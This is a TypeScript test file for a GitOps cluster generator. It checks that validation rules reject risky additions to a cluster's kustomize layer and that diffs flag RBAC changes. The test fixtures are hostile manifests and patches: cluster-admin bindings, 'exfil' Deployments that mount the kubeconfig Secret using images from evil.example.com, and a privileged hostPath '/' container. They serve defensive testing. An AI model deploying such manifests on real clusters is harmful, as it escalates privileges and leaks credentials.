/**
 * What a cluster's own layer may add (validate/user-layer.ts), on the real kustomize render of a generated cluster
 * with objects and patches added in its clusters/<name>/kustomization.yaml; and README's section, which must be the
 * rule list's own text.
 */
import { readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { flagChanges } from "../src/diff/flags.js";
import { diffObjects } from "../src/diff/objects.js";
import { planRepo } from "../src/plan/repo.js";
import { writeTree } from "../src/repo/write.js";
import { kustomizeBuild } from "../src/tools/kustomize.js";
import { USER_LAYER_LIMITS, userLayerReadme, userLayerRules } from "../src/validate/user-layer.js";
import type { K8sObject } from "../src/k8s/object.js";
import { versions } from "../src/pins/versions.js";
import { parseYamlStream } from "../src/core/yaml.js";
import { clusterSpec, ROOT, tempDir } from "./helpers.js";

const spec = clusterSpec;
const demo = spec({ name: "demo" });
const OWN = "clusters/demo/kustomization.yaml";

let dir: string;
let cleanup: () => Promise<void>;
beforeAll(async () => {
  ({ dir, cleanup } = await tempDir("capi-gitops-user-layer-"));
  await writeTree(dir, planRepo({ specs: [demo] }, versions()));
});
afterAll(async () => cleanup?.());

/** The cluster rendered with `extra` files in its folder and its own kustomization.yaml replaced by `own`. */
async function render(own: string, extra: Record<string, string> = {}): Promise<K8sObject[]> {
  for (const [f, text] of Object.entries(extra)) await writeFile(path.join(dir, "clusters/demo", f), text);
  await writeFile(path.join(dir, OWN), own);
  return parseYamlStream(await kustomizeBuild(dir, "clusters/demo")) as K8sObject[];
}
const rules = (objects: K8sObject[]) =>
  userLayerRules({ cluster: "demo", objects, origins: objects.map(() => undefined) }, demo, versions(), OWN);
const K = "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n";
const jsonPatch = (kind: string, name: string, ops: string) =>
  `${K}resources: [generated]\npatches:\n  - target: {kind: ${kind}, name: ${name}}\n    patch: |-\n${ops
    .split("\n")
    .map((l) => `      ${l}`)
    .join("\n")}\n`;

describe("user-layer rules on the real render", () => {
  it("the generated cluster (autoscaler Role, RoleBinding, ServiceAccount, kubeconfig mount) passes", async () => {
    const objs = await render(`${K}resources: [generated]\n`);
    expect(objs.map((o) => o.kind)).toEqual(
      expect.arrayContaining(["Role", "RoleBinding", "ServiceAccount", "Deployment"]),
    );
    expect(rules(objs)).toEqual([]);
  });

  it.each([
    [
      "a RoleBinding to cluster-admin",
      "rb.yaml",
      "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n  name: ops\nroleRef:\n" +
        "  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n" +
        "  - kind: User\n    name: mallory\n",
      "user-layer-rbac",
      "RoleBinding/ops:roleRef",
    ],
    [
      "a ClusterRoleBinding",
      "crb.yaml",
      "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: ops\n" +
        "roleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: view\nsubjects:\n" +
        "  - kind: Group\n    name: system:authenticated\n",
      "user-layer-rbac",
      "ClusterRoleBinding/ops:roleRef",
    ],
    [
      "a new ServiceAccount",
      "sa.yaml",
      "apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: helper\n",
      "user-layer-serviceaccount",
      "ServiceAccount/helper:metadata.name",
    ],
    [
      "a Deployment mounting the kubeconfig Secret",
      "dep.yaml",
      "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: exfil\nspec:\n" +
        "  selector: {matchLabels: {app: x}}\n  template:\n    metadata: {labels: {app: x}}\n    spec:\n" +
        "      containers: [{name: x, image: evil.example.com/x:1}]\n" +
        "      volumes: [{name: k, secret: {secretName: demo-kubeconfig}}]\n",
      "user-layer-secret",
      "Deployment/exfil:spec.template.spec.volumes.0.secret.secretName",
    ],
    [
      "a Deployment reading a Secret through env",
      "dep.yaml",
      "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: exfil\nspec:\n" +
        "  selector: {matchLabels: {app: x}}\n  template:\n    metadata: {labels: {app: x}}\n    spec:\n" +
        "      containers: [{name: x, image: x:1, env: [{name: K, valueFrom: {secretKeyRef: {name: " +
        "demo-kubeconfig, key: value}}}]}]\n",
      "user-layer-secret",
      "Deployment/exfil:spec.template.spec.containers.0.env.0.valueFrom.secretKeyRef.name",
    ],
    [
      "a Deployment running as the autoscaler's ServiceAccount",
      "dep.yaml",
      "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: borrow\nspec:\n" +
        "  selector: {matchLabels: {app: x}}\n  template:\n    metadata: {labels: {app: x}}\n    spec:\n" +
        "      serviceAccountName: demo-cluster-autoscaler\n      containers: [{name: x, image: x:1}]\n",
      "user-layer-serviceaccount",
      "Deployment/borrow:spec.template.spec.serviceAccountName",
    ],
    [
      "a privileged hostPath Deployment",
      "dep.yaml",
      "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: node\nspec:\n" +
        "  selector: {matchLabels: {app: x}}\n  template:\n    metadata: {labels: {app: x}}\n    spec:\n" +
        "      containers: [{name: x, image: x:1, securityContext: {privileged: true}}]\n" +
        "      volumes: [{name: root, hostPath: {path: /}}]\n",
      "user-layer-host",
      "Deployment/node:spec.template.spec.volumes.0.hostPath",
    ],
  ])("%s is an error naming the object and field", async (_name, file, text, rule, at) => {
    const found = rules(await render(`${K}resources: [generated, ${file}]\n`, { [file]: text }));
    expect(found.map((f) => `${f.rule} ${f.path}`)).toContain(`${rule} ${at}`);
    expect(found.every((f) => f.severity === "error" && f.file === OWN)).toBe(true);
  });

  it.each([
    [
      "a rule added to the autoscaler's Role",
      "Role",
      '- op: add\n  path: /rules/-\n  value: {apiGroups: [""], resources: [secrets], verbs: [get]}',
      "user-layer-rbac",
      "Role/demo-cluster-autoscaler:rules",
    ],
    [
      "the autoscaler's RoleBinding pointed at cluster-admin",
      "RoleBinding",
      "- op: replace\n  path: /roleRef\n" +
        "  value: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}",
      "user-layer-rbac",
      "RoleBinding/demo-cluster-autoscaler:roleRef",
    ],
    [
      "a subject added to the autoscaler's RoleBinding",
      "RoleBinding",
      "- op: add\n  path: /subjects/-\n  value: {kind: User, name: mallory, apiGroup: rbac.authorization.k8s.io}",
      "user-layer-rbac",
      "RoleBinding/demo-cluster-autoscaler:subjects",
    ],
    [
      "a sidecar beside the autoscaler's kubeconfig mount",
      "Deployment",
      "- op: add\n  path: /spec/template/spec/containers/-\n  value: {name: side, image: evil.example.com/x:1}",
      "user-layer-secret",
      "Deployment/demo-cluster-autoscaler:spec.template.spec.volumes.0.secret.secretName",
    ],
    [
      "the autoscaler's image replaced",
      "Deployment",
      "- op: replace\n  path: /spec/template/spec/containers/0/image\n" +
        "  value: evil.example.com/cluster-autoscaler:v1.34.4",
      "user-layer-secret",
      "Deployment/demo-cluster-autoscaler:spec.template.spec.volumes.0.secret.secretName",
    ],
  ])("a patch: %s is an error", async (_name, kind, ops, rule, at) => {
    const found = rules(await render(jsonPatch(kind, "demo-cluster-autoscaler", ops)));
    // The path goes down to the first field that differs from what `generate` writes (roleRef.kind, rules.2).
    expect(
      found.map((f) => `${f.rule} ${f.path}`).some((p) => p === `${rule} ${at}` || p.startsWith(`${rule} ${at}.`)),
      JSON.stringify(found),
    ).toBe(true);
  });

  it("a patch the rules allow: the autoscaler's resources and an extra argument", async () => {
    const found = rules(
      await render(
        jsonPatch(
          "Deployment",
          "demo-cluster-autoscaler",
          "- op: replace\n  path: /spec/template/spec/containers/0/resources/limits/memory\n  value: 1Gi\n" +
            "- op: add\n  path: /spec/template/spec/containers/0/args/-\n  value: --v=4",
        ),
      ),
    );
    expect(found).toEqual([]);
  });
});

describe("diff: rbac-changed", () => {
  const CLUSTER = { apiVersion: "cluster.x-k8s.io/v1beta2", kind: "Cluster", metadata: { name: "x", namespace: "x" } };
  const rb = (roleRef: Record<string, string>, subjects: unknown[] = [{ kind: "User", name: "u" }]) => ({
    apiVersion: "rbac.authorization.k8s.io/v1",
    kind: "RoleBinding",
    metadata: { name: "b", namespace: "x" },
    roleRef: { apiGroup: "rbac.authorization.k8s.io", ...roleRef },
    subjects,
  });
  const role = (verbs: string[]) => ({
    apiVersion: "rbac.authorization.k8s.io/v1",
    kind: "Role",
    metadata: { name: "r", namespace: "x" },
    rules: [{ apiGroups: [""], resources: ["configmaps"], verbs }],
  });
  const flags = (before: K8sObject[], after: K8sObject[]) =>
    flagChanges("x", diffObjects({ objects: before }, { objects: after }), before, after)
      .filter((f) => f.rule === "rbac-changed")
      .map((f) => `${f.severity} ${f.path}`);
  it.each([
    [
      "a RoleBinding to cluster-admin added",
      [CLUSTER],
      [CLUSTER, rb({ kind: "ClusterRole", name: "cluster-admin" })],
      ["error RoleBinding/b:roleRef"],
    ],
    [
      "a RoleBinding to a Role added",
      [CLUSTER],
      [CLUSTER, rb({ kind: "Role", name: "r" })],
      ["warning RoleBinding/b:roleRef"],
    ],
    [
      "a subject added",
      [CLUSTER, rb({ kind: "Role", name: "r" })],
      [
        CLUSTER,
        rb({ kind: "Role", name: "r" }, [
          { kind: "User", name: "u" },
          { kind: "User", name: "v" },
        ]),
      ],
      ["warning RoleBinding/b:subjects"],
    ],
    [
      "a RoleBinding moved to cluster-admin",
      [CLUSTER, rb({ kind: "Role", name: "r" })],
      [CLUSTER, rb({ kind: "ClusterRole", name: "cluster-admin" })],
      ["error RoleBinding/b:roleRef.kind"],
    ],
    [
      "a Role's verbs widened",
      [CLUSTER, role(["get"])],
      [CLUSTER, role(["get", "list"])],
      ["warning Role/r:rules[0].verbs"],
    ],
    [
      "a ClusterRoleBinding added",
      [CLUSTER],
      [CLUSTER, { ...rb({ kind: "ClusterRole", name: "view" }), kind: "ClusterRoleBinding", metadata: { name: "b" } }],
      ["error ClusterRoleBinding/b:roleRef"],
    ],
    [
      "a ServiceAccount added",
      [CLUSTER],
      [CLUSTER, { apiVersion: "v1", kind: "ServiceAccount", metadata: { name: "s", namespace: "x" } }],
      ["warning ServiceAccount/s:metadata"],
    ],
    ["a Role removed", [CLUSTER, role(["get"])], [CLUSTER], ["warning Role/r:rules"]],
    ["nothing of access changes", [CLUSTER, role(["get"])], [CLUSTER, role(["get"])], []],
    ["a whole cluster removed (its removal is reported as such)", [CLUSTER, role(["get"])], [], []],
    ["a new cluster's Role: an info line", [], [CLUSTER, role(["get"])], ["info Role/r:rules"]],
    [
      "a new cluster's binding to cluster-admin: an error",
      [],
      [CLUSTER, rb({ kind: "ClusterRole", name: "cluster-admin" })],
      ["error RoleBinding/b:roleRef"],
    ],
  ] as [string, K8sObject[], K8sObject[], string[]][])("%s", (_name, before, after, want) => {
    expect(flags(before, after)).toEqual(want);
  });
});

describe('README "What a cluster layer may add"', () => {
  it("is the rule list's own text (userLayerReadme), one row per rule", async () => {
    const readme = await readFile(path.join(ROOT, "README.md"), "utf8");
    expect(readme, "README differs from userLayerReadme(): run npm run docs").toContain(userLayerReadme());
    for (const l of USER_LAYER_LIMITS) expect(userLayerReadme()).toContain(`| \`${l.rule}\` |`);
    // The section says nothing the rules do not: it ends where the next section starts.
    const section = readme.slice(readme.indexOf("## What a cluster layer may add"));
    expect(section.slice(0, section.indexOf("\n## ", 5) + 1), "run npm run docs").toBe(userLayerReadme());
  });
});
